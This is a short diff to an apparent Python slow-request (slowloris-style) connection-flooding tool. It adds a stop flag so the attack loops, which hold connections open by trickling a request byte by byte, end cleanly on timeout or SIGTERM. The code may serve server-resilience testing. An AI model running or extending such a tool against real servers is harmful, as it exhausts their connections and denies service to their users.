@@ -45,6 +45,7 @@ class Attack:
         self.args = args
         self.stats = {"opened": 0, "closed_by_server": 0, "errors": 0}
         self.attempted = 0
+        self.stopping = False
         self.ready = asyncio.Event()
         self.ctx: ssl.SSLContext | None = None
         if args.tls:
@@ -55,7 +56,7 @@ class Attack:
 
     async def one(self, trickle: bool, deadline: float) -> None:
         first = True
-        while time.monotonic() < deadline:
+        while time.monotonic() < deadline and not self.stopping:
             writer = None
             try:
                 reader, writer = await asyncio.open_connection(
@@ -71,6 +72,8 @@ class Attack:
                     self._tried()
                 if trickle:
                     for i in range(len(FULL_REQUEST)):
+                        if self.stopping:  # (3.11's wait_for can swallow a cancellation)
+                            break
                         writer.write(FULL_REQUEST[i : i + 1])
                         await writer.drain()
                         # a closed connection shows as EOF; wait up to a second for it
@@ -118,6 +121,7 @@ class Attack:
         asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
         stopper = asyncio.create_task(stop.wait())
         await asyncio.wait([stopper], timeout=self.args.duration)
+        self.stopping = True
         for task in [*tasks, announcer, stopper]:
             task.cancel()
         await asyncio.gather(*tasks, announcer, stopper, return_exceptions=True)
